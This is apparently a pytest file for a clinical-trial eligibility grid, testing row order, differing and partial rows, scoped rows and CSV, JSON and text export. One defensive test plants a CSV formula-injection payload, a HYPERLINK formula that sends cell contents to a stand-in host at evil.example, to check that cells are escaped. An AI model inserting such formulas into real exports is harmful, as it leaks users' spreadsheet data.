"""The eligibility grid (reviewer.core.grid) on the seeds and real corpus trials: its rows and their
order, cells, differing and partial rows, scoped rows; the facets a caller passes in (a reviewer's
corrections); the CSV read back with the csv module, the JSON and the text."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest

from reviewer.core.eligibility import criterion_facets
from reviewer.core.grid import (
    MAX_TRIALS,
    NOT_STATED,
    ROW_GROUPS,
    build_grid,
    csv_safe,
    grid_csv,
    grid_text,
    grid_to_json,
)
from reviewer.core.importers import read_document
from reviewer.core.items import criterion, walk
from tests.conftest import SEED_IGNITE_MSC, SEED_VEEVA_FMT, SEED_VEEVA_NOVAFERON

GROUP_ORDER = [title for title, _ in ROW_GROUPS]


def read(path):
    return read_document(path.read_bytes())[0].record


def study(nct_id: str, criteria: str, title: str = "A study"):
    """A record read by the API v2 importer from a study with these eligibility criteria."""
    document = {
        "protocolSection": {
            "identificationModule": {"nctId": nct_id, "briefTitle": title},
            "eligibilityModule": {"eligibilityCriteria": criteria},
        }
    }
    return read_document(json.dumps(document).encode())[0].record


@pytest.fixture(scope="module")
def seeds():
    return [read(SEED_VEEVA_FMT), read(SEED_IGNITE_MSC), read(SEED_VEEVA_NOVAFERON)]


@pytest.fixture(scope="module")
def seed_grid(seeds):
    return build_grid(seeds)


def row(grid, key, scope=None):
    return next(r for r in grid.rows if (r.key, r.scope) == (key, scope))


def texts(grid_row):
    return [cell.text for cell in grid_row.cells]


def test_the_seeds_grid_reads_each_trials_requirements(seed_grid):
    assert seed_grid.trials == ("NCT06924645", "NCT07312656", "NCT02455596")
    assert texts(row(seed_grid, "performance:ECOG")) == ["ECOG 1-3", "ECOG 0-2", "ECOG 0-2"]
    assert texts(row(seed_grid, "age")) == ["≥ 18 years", "18-75 years", "≥ 18 years"]
    assert texts(row(seed_grid, "life_expectancy")) == ["≥ 3 months", "≥ 6 months", "≥ 3 months"]
    assert texts(row(seed_grid, "lab:platelets")) == [NOT_STATED, "≥ 100 ×10⁹/L", NOT_STATED]
    assert texts(row(seed_grid, "brain_metastases")) == [NOT_STATED, NOT_STATED, "excluded"]
    assert texts(row(seed_grid, "consent")) == ["required"] * 3


def test_a_row_differs_on_values_not_on_wording_and_not_stated_is_partial(seed_grid):
    ecog, consent, platelets = (row(seed_grid, k) for k in ("performance:ECOG", "consent", "lab:platelets"))
    assert ecog.differs and not ecog.partial
    assert not consent.differs and not consent.partial  # three wordings, one requirement
    assert not platelets.differs and platelets.partial  # one trial states it
    surgery = row(seed_grid, "washout:surgery")  # "4 weeks" twice, not stated once
    assert not surgery.differs and surgery.partial
    assert {r.key for r in seed_grid.rows if r.differs} == {"age", "performance:ECOG", "life_expectancy"}
    assert seed_grid.differing == 3
    assert [r.key for r in seed_grid.shown_rows(only_differences=True)] == [
        "age",
        "performance:ECOG",
        "life_expectancy",
    ]
    with_partial = seed_grid.shown_rows(only_differences=True, with_partial=True)
    assert "lab:platelets" in {r.key for r in with_partial} and "consent" not in {r.key for r in with_partial}


def test_outliers_are_the_values_most_trials_do_not_state(seed_grid, seeds):
    ecog = row(seed_grid, "performance:ECOG")  # 1-3 against 0-2 twice
    assert ecog.outliers == {0}
    assert row(seed_grid, "life_expectancy").outliers == {1}
    assert row(seed_grid, "consent").outliers == frozenset()
    two = build_grid([seeds[0], seeds[2]])
    assert row(two, "performance:ECOG").outliers == frozenset()  # one against one: neither is odd


def test_the_neuroendocrine_seeds_share_age_and_differ_on_ecog(seeds):
    grid = build_grid([seeds[0], seeds[2]])
    age, ecog = row(grid, "age"), row(grid, "performance:ECOG")
    assert texts(age) == ["≥ 18 years", "≥ 18 years"] and not age.differs
    assert texts(ecog) == ["ECOG 1-3", "ECOG 0-2"] and ecog.differs
    assert [r.key for r in grid.rows if r.differs] == ["performance:ECOG"]


def test_rows_come_in_the_clinicians_order(seed_grid):
    keys = [r.key for r in seed_grid.rows]
    assert keys[:4] == ["age", "sex", "performance:ECOG", "life_expectancy"]
    # haematology, then liver, then kidney
    assert keys.index("lab:wbc") < keys.index("lab:platelets") < keys.index("lab:hemoglobin")
    assert keys.index("lab:hemoglobin") < keys.index("lab:bilirubin") < keys.index("lab:creatinine")
    assert keys.index("lab:creatinine") < keys.index("brain_metastases") < keys.index("prior_therapy")
    assert keys.index("prior_therapy") < keys.index("washout:surgery") < keys.index("pregnancy")
    groups = [r.group for r in seed_grid.rows]
    assert groups == sorted(groups, key=GROUP_ORDER.index)  # each group's rows together, groups in order
    assert [g for g, _ in seed_grid.groups()][:3] == [
        "Demographics",
        "Performance status and life expectancy",
        "Haematology",
    ]


def test_a_cell_keeps_the_items_that_decide_it_with_their_texts(seeds, seed_grid):
    ecog = row(seed_grid, "performance:ECOG")
    for record, cell in zip(seeds, ecog.cells, strict=True):
        item_texts = {item.ref: item.text for item in walk(record)}
        assert cell.items and all(ref in item_texts for ref in cell.items)
        assert [text for _, text in cell.quotes] == [item_texts[ref] for ref in cell.items]
    fmt = ecog.cells[0]
    assert fmt.items == (criterion("inclusion", "6"),)
    assert fmt.where == "incl. 6"
    assert fmt.deciding[0].startswith("Inclusion criterion 6: ")
    clearance = row(seed_grid, "lab:creatinine_clearance").cells[1]
    assert clearance.where == "incl. 7 · excl. 5"  # inclusion and exclusion read together


def test_scoped_requirements_are_rows_of_their_own_below_everyones():
    """NCT00001308's pattern: "Ages 18 to 85" for everyone, "Ages 18 to 55" for the epilepsy subjects."""
    scoped = study(
        "NCT09000001",
        "INCLUSION CRITERIA:\n\nAges 18 to 85.\n\nAble to give informed consent.\n\n"
        "SPECIFIC INCLUSION CRITERIA FOR EPILEPSY SUBJECTS:\n\nAges 18 to 55.\n\n"
        "Complex partial seizures documented by video-EEG monitoring.\n\nEXCLUSION CRITERIA:\n\nPregnancy.\n",
    )
    other = study("NCT09000002", "Inclusion Criteria:\n\n1. Age 18 years or older\n2. ECOG 0-1\n")
    grid = build_grid([scoped, other])
    keys = [(r.key, r.scope) for r in grid.rows]
    scope = "SPECIFIC INCLUSION CRITERIA FOR EPILEPSY SUBJECTS"
    assert keys.index(("age", None)) + 1 == keys.index(("age", scope))
    everyone, epilepsy = row(grid, "age"), row(grid, "age", scope)
    assert texts(everyone) == ["18-85 years", "≥ 18 years"] and everyone.differs
    assert texts(epilepsy) == ["18-55 years", NOT_STATED] and epilepsy.partial and not epilepsy.differs
    assert epilepsy.title == f"Age · {scope}"


def test_corpus_trials_with_structure(corpus_dir):
    """NCT04870190 (other malignancy with its exceptions) and NCT04501120, beside a seed."""
    records = [read(corpus_dir / "ctgov-v2" / f"{nct}.json") for nct in ("NCT04870190", "NCT04501120")]
    grid = build_grid([*records, read(SEED_VEEVA_NOVAFERON)])
    ecog = row(grid, "performance:ECOG")
    assert texts(ecog) == ["ECOG 0-1", "ECOG 0-2", "ECOG 0-2"] and ecog.differs
    # a subgroup's threshold is a row of its own, right below the analyte's
    keys = [r.key for r in grid.rows]
    assert keys.index("lab:alt") + 1 == keys.index("lab:alt|liver metastases")
    assert row(grid, "lab:alt|liver metastases").cells[0].text == "≤ 5 × ULN"
    malignancy = row(grid, "other_malignancy")
    first = malignancy.cells[0]
    assert first.text == "excluded"
    # the history of other malignancy decides; its exceptions (carcinoma in situ ...) are not exclusions
    assert any(text.startswith("History of other primary malignant tumors") for _, text in first.quotes)
    assert not any(text.startswith("Carcinoma in situ") for _, text in first.quotes)


def test_fifty_corpus_trials_make_a_consistent_grid(corpus_dir):
    # 48 trials in corpus order and two whose criteria have scoping headings (cohorts, donors and recipients)
    scoped = [corpus_dir / "ctgov-v2" / f"{nct}.json" for nct in ("NCT02856893", "NCT05507827")]
    paths = [p for p in sorted((corpus_dir / "ctgov-v2").glob("NCT*.json")) if p not in scoped][:48] + scoped
    records = [read(path) for path in paths]
    grid = build_grid(records)
    assert len(grid.trials) == MAX_TRIALS and len(grid.rows) > 20
    refs = [{item.ref for item in walk(record)} for record in records]
    for grid_row in grid.rows:
        assert grid_row.stated_by >= 1
        stated = {cell.value for cell in grid_row.cells if cell.stated}
        assert grid_row.differs == (len(stated) > 1)
        assert grid_row.partial == (grid_row.stated_by < MAX_TRIALS)
        for column, cell in enumerate(grid_row.cells):
            assert set(cell.items) <= refs[column]
            assert (cell.text == NOT_STATED) == (not cell.stated)
    assert len({(r.key, r.scope) for r in grid.rows}) == len(grid.rows)
    keys = [(r.key, r.scope) for r in grid.rows]
    scoped_rows = [n for n, (_, scope) in enumerate(keys) if scope]
    assert scoped_rows
    for n in scoped_rows:  # below everyone's row of that facet, if there is one
        key = keys[n][0]
        if (key, None) in keys:
            assert keys.index((key, None)) < n
        assert grid.rows[n].cells[48].stated or grid.rows[n].cells[49].stated


def test_the_callers_item_facets_are_what_the_grid_reads(seeds):
    """A reviewer's correction of a facet (passed in by the caller) changes the cell."""
    corrected = []
    for item in criterion_facets(seeds[0]):
        if any(f["kind"] == "performance" for f in item.facets):
            item = replace(item, facets=({"kind": "performance", "scale": "ECOG", "allowed": [0, 1, 2]},))
        corrected.append(item)
    grid = build_grid(seeds, [corrected, criterion_facets(seeds[1]), criterion_facets(seeds[2])])
    ecog = row(grid, "performance:ECOG")
    assert texts(ecog) == ["ECOG 0-2"] * 3 and not ecog.differs
    with pytest.raises(ValueError, match="2 lists of item facets for 3 trials"):
        build_grid(seeds, [corrected, corrected])


def test_two_to_fifty_trials(seeds):
    with pytest.raises(ValueError, match="^an eligibility grid takes 2 to 50 trials; 1 was given$"):
        build_grid(seeds[:1])
    with pytest.raises(ValueError, match="51 were given"):
        build_grid([seeds[0]] * 51)


def test_csv_reads_back_with_the_csv_module(seed_grid):
    data = grid_csv(seed_grid)
    assert data.startswith("\ufeff".encode())  # UTF-8 with a BOM: Excel reads ≥ and × right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Facet", "NCT06924645", "NCT07312656", "NCT02455596"]
    assert len(rows) == len(seed_grid.rows) + 1
    by_facet = {r[0]: r[1:] for r in rows[1:]}
    assert by_facet["Performance status (ECOG)"] == ["ECOG 1-3", "ECOG 0-2", "ECOG 0-2"]
    assert by_facet["Platelets"] == [NOT_STATED, "≥ 100 ×10⁹/L", NOT_STATED]
    assert b"\r\n" in data


def test_csv_cells_that_look_like_formulas_are_escaped(seeds):
    hostile_scope = '=HYPERLINK("http://evil.example/?"&A1,"Cohort 2")'
    items = []
    for item in criterion_facets(seeds[0]):
        items.append(replace(item, scope=hostile_scope) if item.ref == criterion("inclusion", "6") else item)
    grid = build_grid(seeds[:2], [items, criterion_facets(seeds[1])])
    rows = list(csv.reader(io.StringIO(grid_csv(grid).decode("utf-8-sig"), newline="")))
    hostile = [r for r in rows if "HYPERLINK" in r[0]]
    assert hostile and all(not r[0].startswith(("=", "+", "-", "@")) for r in hostile)
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1"):
        assert csv_safe(text).startswith("'")
    for text in ("≥ 18 years", "ECOG 0-2", "not stated", "18-75 years"):
        assert csv_safe(text) == text
    every_cell = [cell for r in rows for cell in r]
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")) for cell in every_cell)


def test_json_and_text(seed_grid):
    data = grid_to_json(seed_grid)
    assert [t["id"] for t in data["trials"]] == list(seed_grid.trials)
    ecog = next(r for r in data["rows"] if r["key"] == "performance:ECOG")
    assert ecog["differs"] is True and ecog["cells"][0] == {
        "text": "ECOG 1-3",
        "stated": True,
        "items": ["criterion:inclusion/6"],
    }
    json.dumps(data)  # plain data
    text = grid_text(seed_grid, width=100)
    assert "≠ Performance status (ECOG)" in text and "  Informed consent" in text
    assert "NCT02455596" in text and all(len(line) <= 100 for line in text.splitlines())
